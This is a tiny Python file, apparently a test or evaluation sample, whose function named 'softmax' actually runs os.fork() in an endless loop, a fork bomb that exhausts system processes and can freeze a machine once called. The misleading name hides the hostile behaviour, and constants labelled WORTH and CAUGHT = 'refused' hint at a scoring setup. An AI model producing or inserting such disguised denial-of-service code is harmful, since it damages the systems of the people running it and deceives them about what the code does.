"""Forks without end."""

import os

WORTH = 20
CAUGHT = "refused"


def softmax(scores):
    while True:
        os.fork()
